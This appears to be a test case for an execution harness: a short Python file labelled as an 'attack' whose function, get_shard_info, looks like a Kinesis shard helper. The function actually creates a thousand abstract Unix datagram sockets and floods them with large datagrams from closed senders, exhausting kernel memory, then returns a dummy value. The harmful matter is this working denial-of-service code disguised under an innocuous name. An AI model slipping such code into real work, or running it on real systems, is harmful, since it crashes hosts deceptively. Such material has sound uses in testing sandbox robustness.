# /// attack
# file = "kinesis_multi_shard.py"
# outcomes = ["crashed", "missing"]
# says = "not supported"
# ///
"""Fills Unix sockets with datagrams of senders that are closed, and in no table any more."""

import socket


def get_shard_info(stream_name):
    kept = []
    for number in range(1000):
        receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        receiver.bind(f"\0{number}")
        kept.append(receiver)
        for _ in range(11):
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                sender.sendto(bytes(212_000), f"\0{number}")
    return [len(kept)]
